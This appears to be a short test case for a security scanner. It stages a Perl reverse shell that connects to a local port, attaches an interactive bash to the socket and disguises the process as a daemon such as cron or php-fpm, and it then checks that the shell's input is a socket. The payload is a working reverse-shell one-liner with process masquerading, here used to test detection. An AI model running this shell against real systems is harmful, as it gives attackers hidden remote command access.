# id: K111
# mode: scan
# level: suspicious
# title: a shell that a perl connected, under the name of a daemon
# due: now
some_port port
pick user root www-data
pick title '/usr/sbin/cron' 'php-fpm: pool www' '-bash'
other_end "$port" "$user"
start -u "$user" perl -e "
use Socket; socket(S, 2, 1, 6); connect(S, sockaddr_in($port, inet_aton('127.0.0.1'))) or die;
open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec {'/bin/bash'} '$title', '-i';"
wait_for sh -c "readlink /proc/$pid/fd/0 | grep -q ^socket: && readlink /proc/$pid/exe | grep -q bash"
said pid "$pid"
